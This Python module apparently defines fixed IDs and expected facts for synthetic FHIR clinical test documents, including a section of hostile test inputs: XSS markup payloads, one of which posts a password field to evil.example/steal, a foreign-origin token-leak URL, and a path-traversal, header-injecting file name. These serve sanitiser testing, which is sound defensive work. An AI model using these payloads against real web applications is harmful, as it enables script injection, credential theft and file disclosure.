"""The ids and key facts of the synthetic clinical documents (`sandbox.synthetic.documents`
re-exports them): tests and the app's own tests depend on them, so they never change.
"""

from __future__ import annotations

# --- pat-01: an ordinary clinician journey -------------------------------------------------
DISCHARGE = "doc-pat-01-discharge"
DISCHARGE_DRAFT = "doc-pat-01-discharge-draft"
PROGRESS = "doc-pat-01-progress"
CONSULT = "doc-pat-01-consult"
CONSULT_BINARY = "bin-pat-01-consult"
WOUND_PHOTO = "doc-pat-01-wound-photo"
SUPERSEDED = "doc-pat-01-superseded"
ENTERED_IN_ERROR = "doc-pat-01-error"
CHEST_XRAY = "dr-pat-01-chest-xray"

# --- xss: hostile content ------------------------------------------------------------------
XSS_HOSTILE = "doc-xss-hostile"
XSS_FOREIGN = "doc-xss-foreign"
XSS_FILENAME = "doc-xss-filename"

# --- us-core: Synthea and US Core shapes ---------------------------------------------------
US_CORE_HP = "doc-us-core-hp"
US_CORE_NOTE_REPORT = "dr-us-core-note"
US_CORE_HASH_MISMATCH = "doc-us-core-hash-mismatch"
US_CORE_LATIN1 = "doc-us-core-latin1"
US_CORE_BINARY = "doc-us-core-binary"
US_CORE_NOTE_BINARY = "bin-us-core-note"
US_CORE_LARGE = "doc-us-core-large"
US_CORE_LARGE_BINARY = "bin-us-core-large"
US_CORE_BAD_BASE64 = "doc-us-core-bad-base64"

DOCUMENT_IDS = {
    DISCHARGE: "pat-01 discharge summary, final, newest, inline text/plain with size and hash",
    DISCHARGE_DRAFT: "pat-01 earlier draft discharge summary, still `current`, replaced",
    PROGRESS: "pat-01 progress note, inline benign text/html (h2, p, ul, table, b, i)",
    CONSULT: "pat-01 cardiology consult, application/pdf in Binary/bin-pat-01-consult",
    CONSULT_BINARY: "the consult's PDF (hand-built PDF 1.4), securityContext Patient/pat-01",
    WOUND_PHOTO: "pat-01 photographic image, inline 32x32 image/png",
    SUPERSEDED: "pat-01 progress note with status superseded",
    ENTERED_IN_ERROR: "pat-01 progress note with status entered-in-error",
    CHEST_XRAY: "pat-01 DiagnosticReport (radiology) with a text/html presentedForm",
    XSS_HOSTILE: "xss text/html note full of hostile markup, one sentence must survive",
    XSS_FOREIGN: "xss PDF whose attachment url is on another origin (no token may go there)",
    XSS_FILENAME: "xss inline RTF whose title is a path-traversal, header-injecting file name",
    US_CORE_HP: "us-core note as Synthea 3.x writes it (two LOINC types, conditional author)",
    US_CORE_NOTE_REPORT: "us-core DiagnosticReport note as Synthea writes it (text/plain form)",
    US_CORE_HASH_MISMATCH: "us-core text/plain whose hash is of other text (size is right)",
    US_CORE_LATIN1: "us-core text/plain; charset=ISO-8859-1 (a UTF-8 decode is wrong)",
    US_CORE_BINARY: "us-core text/plain held in Binary/bin-us-core-note",
    US_CORE_NOTE_BINARY: "the text note of doc-us-core-binary, securityContext Patient/us-core",
    US_CORE_LARGE: "us-core text/plain in Binary/bin-us-core-large, no size given",
    US_CORE_LARGE_BINARY: "about 9 MiB of numbered text lines",
    US_CORE_BAD_BASE64: "us-core text/plain whose inline data is not base64",
}

# --- key facts -----------------------------------------------------------------------------
DISCHARGE_DIAGNOSIS_LINE = "Discharge diagnosis: Community-acquired pneumonia"
DRAFT_MARKER = "DRAFT discharge summary"
PROGRESS_MARKER = "Progress note: patient improving"
CONSULT_PDF_TEXT = "Cardiology consultation"
CONSULT_TITLE = "Cardiology consultation.pdf"
WOUND_TITLE = "wound.png"
CHEST_XRAY_MARKER = "No acute cardiopulmonary process"
DISCHARGE_AUTHOR = {"reference": "Practitioner/prac-2", "display": "Chinedu Okafor, MD"}
SURVIVING_SENTENCE = "The text of this note survives sanitising."
HOSTILE_NOTE_MARKUP = (
    "<script>alert('note')</script>",
    '<img src=x onerror="alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    '<p style="background:url(https://evil.example/p.png)">styled</p>',
    '<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="javascript:alert(2)">click me</a>',
    '<svg onload="alert(3)"></svg>',
    '<object data="https://evil.example/o.swf"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
)
FOREIGN_BINARY_URL = "https://evil.example/fhir/Binary/stolen"
HOSTILE_FILENAME = '../../etc/passwd"; name=evil.rtf\r\nX-Injected: 1'
US_CORE_HP_AUTHOR = {
    "reference": "Practitioner?identifier=http://hl7.org/fhir/sid/us-npi|9999912345",
    "display": "Dr. Mariana Ortiz",
}
LATIN1_PHRASE = "Café crème, naïve résumé"
BINARY_NOTE_MARKER = "Note held in a Binary"
LARGE_BINARY_BYTES = 9 * 1024 * 1024  # at least this many (whole lines)
BAD_BASE64 = "not*base64!!"
